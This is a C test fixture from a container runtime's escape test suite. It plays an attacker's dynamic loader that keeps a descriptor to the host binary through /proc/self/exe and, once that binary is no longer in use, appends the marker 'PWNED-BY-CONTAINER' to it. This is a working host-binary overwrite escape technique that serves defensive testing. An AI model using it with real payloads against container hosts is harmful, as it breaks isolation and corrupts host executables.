/* The attacker's "dynamic loader" of the host-binary escape test (tests/escapes.rs): the
 * kernel runs it when the host's tong binary is exec'd inside the container. It keeps
 * the exe as an O_PATH descriptor, forks, and the child appends a marker to the binary
 * once no process runs it any more (ETXTBSY until then). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(void)
{
	int fd = open("/proc/self/exe", O_PATH);
	if (fd < 0 || fork() != 0)
		return 0;
	char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	for (int i = 0; i < 200; i++) {
		int w = open(path, O_WRONLY | O_APPEND);
		if (w >= 0) {
			write(w, "PWNED-BY-CONTAINER", 18);
			close(w);
			return 0;
		}
		usleep(25000);
	}
	return 0;
}
